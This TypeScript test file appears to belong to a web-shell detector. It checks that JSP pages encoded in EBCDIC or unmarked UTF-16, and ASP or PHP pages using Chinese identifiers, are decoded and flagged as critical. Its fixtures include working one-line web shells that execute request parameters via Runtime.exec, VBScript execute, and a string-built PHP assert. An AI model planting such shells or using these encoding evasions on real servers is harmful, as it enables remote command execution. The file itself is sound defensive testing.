/**
 * Pages in an encoding their prolog declares or their bytes show (JSP's encoding bypasses):
 * read as the container reads them, and judged.
 */
import { describe, expect, it } from 'vitest';
import { ebcdicText, unmarkedUtf16Text } from '../../src/compare/page-encodings.js';
import { ruleText } from '../../src/findings/rule-budget.js';
import { judgeWebShell } from '../../src/findings/web-shell.js';
import { addedFile, fileMeta } from '../support/change-facts.js';

const PAGE =
  '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>';
// PAGE in EBCDIC code page 037, as Python's cp037 codec writes it (not this module's table).
const PAGE_CP037 = Buffer.from(
  '4c6c7c4097818785408994979699a37e7f9181a5814b89964b5c7f406c6e4c6c40d799968385a2a24097407e40d9a495a38994854b8785a3d9a495a38994854d5d4b85a785834d998598a485a2a34b8785a3d78199819485a385994d7f837f5d5d5e406c6e',
  'hex',
);

const judged = (bytes: Buffer) => {
  const text = ruleText(bytes, bytes.length).text;
  if (text === undefined) return undefined;
  const file = addedFile('/usr/local/tomcat/webapps/ROOT/p.jsp', text, {
    current: fileMeta({ sizeBytes: bytes.length }),
  });
  return judgeWebShell(file, true);
};

describe('pages in a declared or unmarked encoding', () => {
  it('reads a page whose XML prolog declares EBCDIC as EBCDIC, and judges it', () => {
    const prolog = `<?xml version="1.0" encoding='cp037'?>`;
    const bytes = Buffer.concat([Buffer.from(prolog), PAGE_CP037]);
    expect(ebcdicText(bytes)).toBe(prolog + PAGE);
    expect(judged(bytes)).toMatchObject({ severity: 'critical' });
    // The prolog in UTF-16 with its byte order mark, the body in EBCDIC.
    const marked = Buffer.concat([
      Buffer.from([0xfe, 0xff]),
      Buffer.from(Buffer.from(prolog, 'utf16le')).swap16(),
      PAGE_CP037,
    ]);
    expect(ebcdicText(marked)).toContain(PAGE);
  });

  it('reads UTF-16 without a byte order mark, after an ASCII prolog too', () => {
    const be = Buffer.from(Buffer.from(PAGE, 'utf16le')).swap16();
    expect(unmarkedUtf16Text(be)).toBe(PAGE);
    const behind = Buffer.concat([Buffer.from(`<?xml version="1.0" encoding='cp037'?>`), be]);
    expect(ebcdicText(behind)).toBeUndefined();
    expect(judged(behind)).toMatchObject({ severity: 'critical' });
  });

  it('leaves binaries and other prologs alone', () => {
    // NULs in runs (a binary's padding), not one per character.
    const padded = Buffer.concat([Buffer.from('ABCD'), Buffer.alloc(64), Buffer.from('EFGH')]);
    expect(unmarkedUtf16Text(padded)).toBeUndefined();
    // UTF-16 of non-ASCII text: too few printable bytes once the NULs are out.
    expect(unmarkedUtf16Text(Buffer.from('日本語のテキスト'.repeat(8), 'utf16le'))).toBeUndefined();
    expect(ebcdicText(Buffer.from('<?xml version="1.0" encoding="UTF-8"?><a/>'))).toBeUndefined();
    expect(ebcdicText(Buffer.from(PAGE))).toBeUndefined();
  });
});

describe('names written in other alphabets', () => {
  const judgedAt = (at: string, bytes: Buffer) => {
    const text = ruleText(bytes, bytes.length).text!;
    return judgeWebShell(
      addedFile(at, text, { current: fileMeta({ sizeBytes: bytes.length }) }),
      true,
    );
  };

  it('follows the request through a classic ASP name in GBK, and a PHP name in UTF-8', () => {
    // `中文=request("a")` then `execute 中文`, saved in GBK (Python's gbk codec wrote it).
    const gbk = Buffer.from(
      '3c250ad6d0cec43d7265717565737428226122290a6578656375746520d6d0cec40a253e',
      'hex',
    );
    expect(judgedAt('/inetpub/wwwroot/x.asp', gbk)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/running the request as code/),
    });
    const php = Buffer.from('<?php $变量 = "ass" . "ert"; $变量($_POST["a"]); ?>');
    const hit = judgedAt('/var/www/html/x.php', php);
    expect(hit?.severity).toBe('critical');
    // The reason shows the page's own names, not the ASCII ones they were read as.
    expect(hit?.reason).toMatch(/\$…\(/);
  });

  it('leaves pages whose names and strings are Chinese, and do nothing of a shell, alone', () => {
    const asp = Buffer.from('<%\n标题 = "首页"\nresponse.write 标题 & request("q")\n%>');
    expect(judgedAt('/inetpub/wwwroot/index.asp', asp)?.severity ?? 'info').not.toMatch(
      /high|critical/,
    );
    // `$$` before Chinese text is PHP's variable variable once spelt in ASCII, not VBScript's.
    const prices = Buffer.from('<%\nunit = "价格$$元"\nname = Eval("Class_N_" & class_id)\n%>');
    expect(judgedAt('/inetpub/wwwroot/class.asp', prices)?.severity ?? 'info').not.toMatch(
      /high|critical/,
    );
    const php = Buffer.from("<?php $标题 = '首页'; echo htmlspecialchars($标题 . $_GET['q']); ?>");
    expect(judgedAt('/var/www/html/index.php', php)?.severity ?? 'info').not.toMatch(
      /high|critical/,
    );
  });
});
